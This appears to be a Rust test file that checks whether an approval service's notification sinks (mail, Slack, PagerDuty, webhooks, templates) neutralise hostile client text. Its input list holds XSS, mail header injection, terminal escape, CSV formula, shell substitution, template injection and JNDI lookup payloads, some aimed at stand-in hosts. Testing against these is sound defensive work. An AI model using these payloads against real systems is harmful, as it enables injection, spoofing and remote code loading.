//! Text of a client in every format: nothing of it is a mention, a tag, a header, a command of a terminal or a template, and
//! people still recognise it.

use std::fs;

use breakglass_api::events::EventType;
use breakglass_api::words::Vocabulary as _;
use breakglass_audit::text::misleads;
use breakglass_server::clock::Moment;
use breakglass_server::config::Sink;
use breakglass_server::sinks::notice::Asked;
use breakglass_server::sinks::words::words;
use breakglass_server::sinks::{Event, For, Message, Notice, prepare, takes};
use breakglass_testing::service::START;
use serde_json::{Value, json};

use super::sinks::{sent, sinks, texts};
use super::templates::rendered;

/// What each hostile text has in it, and every format must still show.
const MARK: &str = "Mk7";

/// What a client could write into every text.
pub(crate) const HOSTILE: &[&str] = &[
    // Slack.
    "Mk7 <!channel> <!here> <@U123> <#C1> <https://evil.test|approve>",
    "Mk7 *bold* ~gone~ `code` ```block``` _it_ &lt;!channel&gt; > quoted | piped",
    // HTML.
    "Mk7 <script>alert(1)</script><img src=x onerror=\"x()\"></td></table>",
    "Mk7 \" onmouseover=\"x()\" ' autofocus onfocus='x()' &lt;b&gt; &#60;i&#62; <!-- ]]> -->",
    // Headers and lines of mail.
    "Mk7\r\nBcc: eve@evil.test\r\n\r\nbody",
    "Mk7\n.\n=?utf-8?q?=0ABcc:_eve@evil.test?=\u{85}\u{2028}line",
    // Terminals: colours, titles, links, the clipboard.
    "Mk7\u{1b}[2J\u{1b}]0;title\u{7}\u{9b}31m",
    "Mk7\u{1b}]8;;https://evil.test\u{1b}\\link\u{1b}]8;;\u{1b}\\\u{1b}]52;c;ZXZpbA==\u{7}\u{8}\u{7f}",
    // Text that turns or hides.
    "Mk7abc\u{202e}gpj.exe\u{2066}\u{200b}\u{200d}\u{feff}\u{e0041}\u{ad}",
    "Mk7\u{0}nul",
    // CSV, JSON, shells, templates.
    "Mk7 =cmd|'/c calc'!A1 \"},\"x\":{\"y\":[1]} \\u202e \\\" ; $(id) `id` && x",
    "Mk7 {{7*7}} {% for a in range(9) %}{{ a }}{% endfor %} {# no #} ${jndi:ldap://evil.test} %s",
    // 1,024 bytes of emoji.
    concat!(
        "Mk7 ",
        "😀😀😀😀😀😀😀😀😀😀😀😀😀😀😀😀😀😀😀😀😀😀😀😀😀😀😀😀😀😀😀😀😀😀😀😀😀😀😀😀😀😀😀😀😀😀😀😀😀😀😀😀😀😀😀😀😀😀😀😀"
    ),
];

/// A notice in which every text of a client is this one.
pub(crate) fn hostile(kind: &str, text: &str) -> Notice {
    let mut notice = Notice::example(kind, Moment::from_seconds(START));
    notice.actor = text.to_owned();
    notice.subject = Some(text.to_owned());
    notice.incident = Some(text.to_owned());
    notice.audience = Some(text.to_owned());
    notice.data = json!({
        "reason": text, "text": text, "note": text, "group": text, "scopes": [text], "expires_at": text,
    });
    if kind.starts_with("breakglass.alert.") {
        notice.data = json!({ "count": 2, "reported": { "reported_by": text, "alert": {
            "method": text, "host": text, "path": text, "reason": text, "source_ip": text, "detail": text,
            "unverified": { "issuer": text, "kid": text },
        } } });
    }
    notice.asked = Some(Asked {
        requester: text.to_owned(),
        scopes: vec![text.to_owned(); 3],
        opens: vec![text.to_owned(); 300],
        reason: text.repeat(50),
        duration_s: 60,
        emergency: true,
    });
    notice
}

/// Every type of events, and one that is not known.
fn kinds() -> Vec<&'static str> {
    let known = EventType::ALL.iter().map(|one| one.word());
    known.chain(["breakglass.alert.out_of_scope", "breakglass.of_a_newer_version"]).collect()
}

/// Each hostile notice.
pub(crate) fn all_hostile() -> impl Iterator<Item = Notice> {
    kinds().into_iter().flat_map(|kind| HOSTILE.iter().map(move |text| hostile(kind, text)))
}

/// The letter that a mail sink sends of it.
pub(crate) fn letter(sink: &Sink, notice: &Notice) -> String {
    let (now, source) = (Moment::from_seconds(START), "https://approvals.test");
    let purpose = For::Sending;
    let event = Event { notice, to: None, source, now, purpose };
    let Message::Letter(letter) = prepare(sink, event).unwrap() else { panic!("no letter") };
    String::from_utf8(letter.text).unwrap()
}

/// The two parts of a letter, decoded (RFC 2045 section 6).
pub(crate) fn plain_and_html(letter: &str) -> (String, String) {
    let boundary = letter.split("boundary=\"").nth(1).unwrap().split('"').next().unwrap();
    let parts: Vec<&str> = letter.split(&format!("--{boundary}")).collect();
    assert_eq!(parts.len(), 4, "head, two parts, the end: {letter}");
    let decoded = |part: &str, kind: &str| {
        let (head, body) = part.split_once("\r\n\r\n").unwrap();
        assert!(head.contains(kind), "{head}");
        let bytes = match head.split("Content-Transfer-Encoding: ").nth(1).unwrap().trim() {
            "7bit" | "8bit" => body.as_bytes().to_vec(),
            "quoted-printable" => quoted_printable(body),
            "base64" => {
                use base64::Engine as _;
                let text: String = body.split_whitespace().collect();
                base64::engine::general_purpose::STANDARD.decode(text).unwrap()
            }
            other => panic!("{other}"),
        };
        String::from_utf8(bytes).unwrap()
    };
    (decoded(parts[1], "text/plain"), decoded(parts[2], "text/html"))
}

fn quoted_printable(text: &str) -> Vec<u8> {
    let joined = text.replace("=\r\n", "");
    let mut bytes = Vec::new();
    let mut rest = joined.as_bytes();
    while let Some((first, after)) = rest.split_first() {
        if *first == b'=' {
            let digits = std::str::from_utf8(&after[..2]).unwrap();
            bytes.push(u8::from_str_radix(digits, 16).unwrap());
            rest = &after[2..];
        } else {
            bytes.push(*first);
            rest = after;
        }
    }
    bytes
}

/// No character that steers, turns or hides, but the line breaks of the format itself.
fn is_harmless(text: &str) -> bool {
    !text.chars().any(|one| !matches!(one, '\n' | '\r') && misleads(one))
}

/// HTML that has these tags and no other: what is left without them is text, in which every character is escaped that has a
/// meaning.
fn is_html_of_ours(html: &str, link: Option<&str>) -> Result<(), String> {
    let mut text = html.to_owned();
    if let Some(link) = link {
        text = text.replace(&format!("<a href=\"{link}\">"), "");
    }
    for tag in [
        "<!doctype html>",
        "<html>",
        "</html>",
        "<head>",
        "</head>",
        "<meta charset=\"utf-8\">",
        "<title>",
        "</title>",
        "<body>",
        "</body>",
        "<h1>",
        "</h1>",
        "<table>",
        "</table>",
        "<tr>",
        "</tr>",
        "<th align=\"left\">",
        "</th>",
        "<td>",
        "</td>",
        "<p>",
        "</p>",
        "<pre>",
        "</pre>",
        "<small>",
        "</small>",
        "</a>",
        "<br>",
    ] {
        text = text.replace(tag, "");
    }
    if let Some(at) = text.find(['<', '>', '"', '\'']) {
        return Err(format!("a sign of HTML at {at}: {text}"));
    }
    for entity in ["&amp;", "&lt;", "&gt;", "&quot;", "&#39;"] {
        text = text.replace(entity, "");
    }
    text.find('&').map_or(Ok(()), |at| Err(format!("an entity at {at}: {text}")))
}

const MAIL: &str = "[[sinks]]\nname = \"m\"\ntype = \"mail\"\nhost = \"localhost\"\nfrom = \"b@corp.example\"\nto = [\"o@corp.example\"]";

#[test]
fn mail_shows_it_as_text_in_both_parts() {
    let directory = tempfile::tempdir().unwrap();
    let sink = &sinks(&directory, MAIL)[0];
    for notice in all_hostile() {
        let (plain, html) = plain_and_html(&letter(sink, &notice));
        let link = notice.link("https://approvals.test");
        assert_eq!(is_html_of_ours(&html, link.as_deref()), Ok(()));
        for text in [&plain, &html] {
            assert!(is_harmless(text), "{text:?}");
            assert!(text.contains(MARK), "{text}");
        }
        // Each fact is one line, so that none makes up another.
        let words = words(&notice);
        for (label, value) in &words.lines {
            let line = format!("{label}: {value}\r\n");
            assert!(plain.contains(&line), "{line}: {plain}");
        }
        let facts = plain.split("\r\n\r\n").nth(1).unwrap();
        assert_eq!(facts.lines().count(), words.lines.len(), "{plain}");
    }
}

#[test]
fn slack_mentions_links_and_styles_nothing_of_it() {
    let directory = tempfile::tempdir().unwrap();
    fs::write(directory.path().join("url"), "https://hooks.slack.test/services/T/B/secret")
        .unwrap();
    let sink =
        &sinks(&directory, "[[sinks]]\nname = \"s\"\ntype = \"slack\"\nurl_file = \"AT/url\"")[0];
    for notice in all_hostile() {
        let message = sent(sink, &notice);
        let all = texts(&message).join("\n");
        assert!(all.contains(MARK) && is_harmless(&all), "{all:?}");
        let facts = message["blocks"][1]["text"]["text"].as_str().unwrap();
        for line in facts.lines().filter(|line| *line != "…") {
            // Ours are the two stars around the label.
            let (label, value) = line.strip_prefix('*').unwrap().split_once(":* ").unwrap();
            assert!(!label.contains('*') && !value.contains(['*', '~', '`', '<', '>']), "{line}");
        }
    }
}

#[test]
fn pagerduty_gets_words_alone() {
    let directory = tempfile::tempdir().unwrap();
    fs::write(directory.path().join("key"), "R0UT1NGK3Y").unwrap();
    let entry = "[[sinks]]\nname = \"p\"\ntype = \"pagerduty\"\nrouting_key_file = \"AT/key\"";
    let sink = &sinks(&directory, entry)[0];
    let mut triggered = 0;
    for notice in all_hostile().filter(|notice| takes(sink, notice)) {
        let event = sent(sink, &notice);
        let all = texts(&event).join("\n");
        assert!(is_harmless(&all), "{all:?}");
        if event["event_action"] == "trigger" {
            triggered += 1;
            assert!(event["payload"]["custom_details"].to_string().contains(MARK), "{event}");
        }
    }
    assert!(triggered >= HOSTILE.len(), "{triggered}");
}

/// Machines read these: JSON carries every character as it is, and in JSON none of them ends a text or a line.
#[test]
fn webhooks_and_collectors_get_it_as_data() {
    let directory = tempfile::tempdir().unwrap();
    let entries = "[[sinks]]\nname = \"w\"\ntype = \"webhook\"\nurl = \"https://siem.test/\"\nsecret_files = [\"AT/secret\"]\n\
        [[sinks]]\nname = \"o\"\ntype = \"otlp\"\nurl = \"https://otel.test/v1/logs\"";
    let sinks = sinks(&directory, entries);
    for notice in all_hostile() {
        for sink in &sinks {
            let (now, source) = (Moment::from_seconds(START), "https://approvals.test");
            let purpose = For::Sending;
            let event = Event { notice: &notice, to: None, source, now, purpose };
            let Message::Call(call) = prepare(sink, event).unwrap() else { panic!() };
            assert!(
                !call.body.iter().any(|byte| *byte < b' '),
                "no line breaks and no control characters"
            );
            for (_, value) in &call.headers {
                assert!(!value.contains(['\r', '\n']), "{value:?}");
            }
            let json: Value = serde_json::from_slice(&call.body).unwrap();
            let texts = texts(&json);
            assert!(texts.contains(notice.incident.as_ref().unwrap()), "{json}");
            let reason =
                if sink.name == "w" { json["data"]["request"]["reason"].as_str() } else { None };
            assert!(sink.name == "o" || reason == Some(&notice.asked.as_ref().unwrap().reason));
        }
    }
}

#[test]
fn a_template_writes_it_as_text() {
    let template = "{{ title }}\n{% for line in lines %}{{ line.label }}={{ line.value }}\n{% endfor %}{{ event.actor }}\n\
        {{ request.requester }} {{ request.environment }} {{ request.incident }} {{ request.scopes|join(', ') }} \
        {{ request.opens|first }} {{ request.reason }} {{ request }}";
    for text in HOSTILE {
        for kind in [
            "breakglass.request.submitted",
            "breakglass.grant.ending",
            "breakglass.alert.out_of_scope",
        ] {
            let (slack, plain, html) = rendered(template, &hostile(kind, text));
            assert!(!slack.contains(['<', '>', '*', '~', '`']), "{slack}");
            assert_eq!(is_html_of_ours(&html, None), Ok(()));
            for text in [&slack, &plain, &html] {
                assert!(is_harmless(text) && text.contains(MARK), "{text:?}");
                assert!(!text.contains("49") && !text.contains("012345678"), "{text}");
                assert!(!text.contains("the template of this sink failed"), "{text}");
            }
        }
    }
}
